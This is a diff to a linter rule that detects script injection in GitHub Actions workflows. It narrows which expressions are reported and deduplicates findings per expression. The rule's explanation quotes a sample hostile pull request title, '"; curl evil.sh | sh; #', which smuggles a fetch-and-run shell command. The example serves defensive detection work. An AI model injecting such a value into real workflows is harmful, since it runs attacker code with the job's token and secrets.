@@ -81,7 +81,9 @@ export default defineRule({
     why: `\`\${{ }}\` is replaced before the shell (or github-script's JavaScript) runs, so a pull request
 titled \`"; curl evil.sh | sh; #\` becomes part of the script and runs with the job's token and secrets.
 Titles, bodies, comments, branch names, commit messages and author names are written by whoever
-opens the issue or pull request.
+opens the issue or pull request. Text compared (\`title == 'x'\`), negated or tested by \`contains()\`,
+\`startsWith()\` or \`endsWith()\` reaches the script only as true or false, and is not reported; text
+passed through \`format()\`, \`join()\`, \`toJSON()\` or \`||\` is.
 See [script injections](https://docs.github.com/actions/concepts/security/script-injections).`,
     invalid: `on: pull_request
 jobs:
@@ -143,19 +145,21 @@ reach it. A level set in \`trunkline.config.ts\` applies to all of these.`,
         for (const [index, expression] of use.expressions.entries()) {
           const place = embedded[index];
           const within = place ? use.text.slice(place.start, place.end) : undefined;
-          for (const reference of expression.references) {
+          for (const reference of expression.flowing) {
             const text = formatReference(reference);
-            if (reported.has(text)) continue;
+            // once per reference in each different `${{ }}`: each is a place to fix, on its own line
+            const key = `${text}\0${within ?? ""}`;
+            if (reported.has(key)) continue;
             if (isUntrusted(reference, expression.functions.has("tojson") && carriesOutsiderText(workflow.raw["on"]))) {
-              reported.add(text);
+              reported.add(key);
               report({ ...finding(use.path, text, isCode && isGithubScript(at.raw)), ...(within ? { within } : {}) });
             } else if (isUnvetted(reference, workflow.raw["on"])) {
-              reported.add(text);
+              reported.add(key);
               report({ ...unvetted(use.path, text, isCode && isGithubScript(at.raw)), ...(within ? { within } : {}) });
             } else if (reference.root === "env" && reference.segments.length === 1 && typeof reference.segments[0] === "string") {
               const source = envOf().get(reference.segments[0]);
               if (!source) continue;
-              reported.add(text);
+              reported.add(key);
               report({
                 path: use.path,
                 ...(within ? { within } : {}),
@@ -215,7 +219,7 @@ function untrustedIn(text: string, on: Json | undefined): { untrusted: string; u
   let unvetted: string | undefined;
   for (const expression of findExpressions(text)) {
     const facts = expressionFacts(expression.body);
-    const references = facts.references;
+    const references = facts.flowing;
     const reference = references.find((candidate) => isUntrusted(candidate, facts.functions.has("tojson") && carriesOutsiderText(on)));
     if (reference) return { untrusted: formatReference(reference) };
     const other = unvetted === undefined ? references.find((candidate) => isUnvetted(candidate, on)) : undefined;
